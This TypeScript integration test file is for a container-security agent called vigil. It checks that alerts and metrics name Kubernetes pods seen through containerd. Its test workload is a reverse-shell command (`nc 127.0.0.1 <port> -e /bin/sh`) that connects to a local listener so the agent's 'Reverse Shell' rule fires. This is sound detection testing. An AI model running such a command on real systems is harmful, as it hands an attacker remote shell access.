import { spawn, type ChildProcess } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { existsSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { ownedJson, podJson, startFakeApiServer } from '../../bench/metadata/fake-apiserver.js';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { containerdUnavailable, startContainerd, type Containerd } from './harness/containerd.js';
import { startAgent, type AgentHandle, type JsonAlert } from './harness/agent.js';
import { listen, type Listener } from './harness/listener.js';

const unavailable = containerdUnavailable();
const LIBRARY = join(import.meta.dirname, '..', '..', 'rules', 'library');
const PROBE = join(import.meta.dirname, '..', 'fixtures', 'rules-cri', 'attribution.yaml');
const NS = 'vigil-cri';

/** A reverse shell as the container's own command: busybox nc hands the socket to sh. */
const reverseShell = (port: number): string[] => ['/bin/sh', '-c', `exec nc 127.0.0.1 ${port} -e /bin/sh`];

const probeFor = (pod: string) => (a: JsonAlert) => a.rule === 'Pod Attribution Probe' && a.output_fields['k8s.pod.name'] === pod;

/**
 * vigil against a real containerd (Debian's, started privately with its CRI
 * plugin): pods and containers are created through the CRI API as the
 * kubelet would, and the agent has no Docker socket, so every name it
 * prints came from containerd.
 */
describe.skipIf(unavailable)('pods named through the CRI (real containerd)', () => {
  let containerd: Containerd;
  const listeners: Listener[] = [];
  const agents: AgentHandle[] = [];
  const children: ChildProcess[] = [];

  beforeAll(async () => {
    containerd = await startContainerd();
  });
  afterEach(async () => {
    for (const a of agents.splice(0)) expect(await a.stop()).toBe(0);
    for (const c of children.splice(0)) c.kill('SIGKILL');
    for (const l of listeners.splice(0)) await l.close();
  });
  afterAll(async () => {
    await containerd?.stop();
  });

  const agentArgs = (criSocket: string, extra: string[] = [], kube: string[] = ['--kube-api', 'off']): string[] => [
    '--cri-socket',
    criSocket,
    '--docker-socket',
    'none',
    ...kube,
    '--rules',
    LIBRARY,
    '--rules',
    PROBE,
    '--scan-interval-ms',
    '1000',
    ...extra,
  ];

  it('names the pod, its labels and the container in alerts, process events and /metrics', async () => {
    const agent = await startAgent(agentArgs(containerd.socket));
    agents.push(agent);
    const listener = await listen('127.0.0.1');
    listeners.push(listener);
    const labels = { app: 'web', tier: 'front', 'pod-template-hash': '5d8f7c9b4' };
    const pod = await containerd.runPod({
      namespace: NS,
      pod: 'web-5d8f7c9b4-x2x7q',
      container: 'shell',
      labels,
      annotations: { 'vigil.test/case': 'named' },
      command: reverseShell(listener.port),
    });
    await listener.waitForConnection(30_000);

    const probe = await agent.waitForAlert(probeFor('web-5d8f7c9b4-x2x7q'), 30_000);
    expect(probe.output).toContain(`ns=${NS} pod=web-5d8f7c9b4-x2x7q uid=${pod.uid}`);
    expect(probe.output).toContain('app=web container=shell type=containerd image=docker.io/vigil-test/busybox:latest');
    for (const [k, v] of Object.entries(labels)) expect(probe.output).toContain(`${k}:${v}`);
    expect(probe.output).toContain('k8smeta_pod=web-5d8f7c9b4-x2x7q hostnet=true');
    // No API here: the workload is guessed from the name and labels, and says so.
    expect(probe.output).toContain('workload=Deployment/web source=guess');
    expect(probe.output_fields['container.id']).toBe(pod.containerId.slice(0, 12));

    // The library's own rule, as any user sees it.
    const shell = await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['k8s.pod.name'] === 'web-5d8f7c9b4-x2x7q', 30_000);
    expect(shell.output_fields['k8s.ns.name']).toBe(NS);
    expect(shell.output_fields['container.name']).toBe('shell');
    // Process events (the container's execve) carry the pod too.
    const exec = await agent.waitForAlert((a) => a.rule === 'Pod Process Probe' && a.output_fields['k8s.pod.name'] === 'web-5d8f7c9b4-x2x7q' && a.output.includes('container=shell'), 30_000);
    expect(exec.output).toContain(`uid=${pod.uid} container=shell labels=`);
    expect(exec.output).toContain('app:web');

    const metrics = await agent.metrics();
    const series = metrics.split('\n').find((l) => l.startsWith('container_cpu_usage_seconds_total{') && l.includes(`pod="web-5d8f7c9b4-x2x7q"`) && l.includes('container="shell"'));
    expect(
      series,
      metrics
        .split('\n')
        .filter((l) => l.startsWith('container_cpu_usage_seconds_total'))
        .join('\n'),
    ).toBeDefined();
    expect(series).toContain(`namespace="${NS}"`);
    expect(series).toContain('image="docker.io/vigil-test/busybox:latest"');
    // Seen through containerd, not Docker: the agent has no Docker socket at all.
    expect(metrics).toMatch(/^vigil_metadata_source_up\{source="cri"\} 1$/m);
    expect(metrics).toMatch(/^vigil_runtime_up\{runtime="containerd"\} 1$/m);
    expect(metrics).not.toMatch(/^vigil_metadata_source_up\{source="docker"\} 1$/m);
    expect(metrics).toMatch(/^vigil_metadata_source_up\{source="kubernetes"\} 0$/m);
    const readyz = (await (await fetch(agent.metricsUrl.replace('/metrics', '/readyz'))).json()) as { details?: { metadata?: string } };
    expect(readyz.details?.metadata).toContain(`cri: containerd 1.6`);
    expect(readyz.details?.metadata).toContain('(up, polling)');
    expect(readyz.details?.metadata).toContain('kubernetes API: not used (kubeApi is off)');
    await containerd.removePod(pod);
  });

  it("takes the workload from the API's owner chain (Deployment -> ReplicaSet -> Pod) for rules written for k8smeta", async () => {
    // No API server can run here: a local list/watch server describes the same pod (same uid) as the API would.
    const api = await startFakeApiServer();
    try {
      const uid = randomUUID();
      const kubeconfig = join(containerd.dir, 'kubeconfig');
      writeFileSync(kubeconfig, api.kubeconfig());
      api.upsert('/apis/apps/v1/replicasets', ownedJson('ReplicaSet', { name: 'shop-frontend-7f9c', namespace: NS, owner: { kind: 'Deployment', name: 'storefront' } }));
      const apiPod = podJson({
        name: 'shop-frontend-7f9c-q8z2m',
        namespace: NS,
        uid,
        node: 'vigil-test-node',
        labels: { app: 'shop', 'pod-template-hash': '7f9c' },
        owner: { kind: 'ReplicaSet', name: 'shop-frontend-7f9c' },
      });
      api.upsert('/api/v1/pods', apiPod);
      const agent = await startAgent(agentArgs(containerd.socket, [], ['--kubeconfig', kubeconfig, '--node-name', 'vigil-test-node']));
      agents.push(agent);
      const listener = await listen('127.0.0.1');
      listeners.push(listener);
      const pod = await containerd.runPod({
        namespace: NS,
        pod: 'shop-frontend-7f9c-q8z2m',
        uid,
        container: 'web',
        labels: { app: 'shop', 'pod-template-hash': '7f9c' },
        command: reverseShell(listener.port),
      });
      await listener.waitForConnection(30_000);
      const probe = await agent.waitForAlert(probeFor('shop-frontend-7f9c-q8z2m'), 30_000);
      // A guess from the name would say Deployment/shop-frontend; the owner chain says storefront.
      expect(probe.output).toContain('workload=Deployment/storefront source=api deployment=storefront rs=shop-frontend-7f9c');
      const metrics = await agent.metrics();
      expect(metrics).toMatch(/^vigil_metadata_source_up\{source="kubernetes"\} 1$/m);
      expect(metrics).toMatch(/^vigil_kube_pods\{scope="node"\} 1$/m);
      await containerd.removePod(pod);
    } finally {
      await api.close();
    }
  });

  it('holds a process that starts before its pod is known, and names it when the runtime answers', async () => {
    // The agent talks to containerd through a relay that is not there yet:
    // the container and its reverse shell start while vigil cannot name them.
    const relay = join(containerd.dir, 'relay.sock');
    const agent = await startAgent(agentArgs(relay, ['--metadata-hold-ms', '60000', '--cri-poll-interval-ms', '500']), { VIGIL_LOG_LEVEL: 'info' });
    agents.push(agent);
    const listener = await listen('127.0.0.1');
    listeners.push(listener);
    const pod = await containerd.runPod({ namespace: NS, pod: 'late-1', container: 'shell', labels: { app: 'late' }, command: reverseShell(listener.port) });
    await listener.waitForConnection(30_000);
    // The shell runs, unnamed: nothing may have gone out without the pod.
    await new Promise((r) => setTimeout(r, 1_500));
    const bare = agent.alerts.filter((a) => a.output_fields['container.id'] === pod.containerId.slice(0, 12));
    expect(bare).toEqual([]);
    expect(existsSync(relay)).toBe(false);

    // Its own process group: killing it must also end the forked relays of open connections.
    const socat = spawn('socat', [`UNIX-LISTEN:${relay},fork`, `UNIX-CONNECT:${containerd.socket}`], { stdio: 'ignore', detached: true });
    children.push(socat);
    const probe = await agent.waitForAlert(probeFor('late-1'), 60_000);
    expect(probe.output).toContain(`ns=${NS} pod=late-1 uid=${pod.uid}`);
    expect(probe.output).toContain('app:late');
    const shell = await agent.waitForAlert((a) => a.rule === 'Reverse Shell' && a.output_fields['container.id'] === pod.containerId.slice(0, 12), 10_000);
    expect(shell.output_fields['k8s.pod.name']).toBe('late-1');
    const metrics = await agent.metrics();
    expect(Number(/^vigil_metadata_hold_total\{outcome="enriched"\} (\d+)$/m.exec(metrics)?.[1])).toBeGreaterThan(0);
    expect(agent.stderr()).toContain('CRI runtime unreachable');
    expect(agent.stderr()).toContain('CRI runtime reachable');

    // The runtime goes away (the relay dies): a metric and a log line, then it comes back.
    const upIs = async (v: 0 | 1): Promise<void> => {
      const deadline = Date.now() + 60_000;
      while (!new RegExp(`^vigil_metadata_source_up\\{source="cri"\\} ${v}$`, 'm').test(await agent.metrics())) {
        if (Date.now() > deadline) throw new Error(`vigil_metadata_source_up{source="cri"} never became ${v}:\n${agent.stderr().slice(-2000)}`);
        await new Promise((r) => setTimeout(r, 200));
      }
    };
    const exited = new Promise((r) => socat.once('exit', r));
    process.kill(-socat.pid!, 'SIGKILL');
    await exited;
    await upIs(0);
    expect(agent.stderr().split('CRI runtime unreachable').length - 1).toBe(2);
    children.push(spawn('socat', [`UNIX-LISTEN:${relay},fork,unlink-early`, `UNIX-CONNECT:${containerd.socket}`], { stdio: 'ignore' }));
    await upIs(1);
    expect(await agent.metrics()).toMatch(/^vigil_runtime_up\{runtime="containerd"\} 1$/m);
    await containerd.removePod(pod);
  });
});
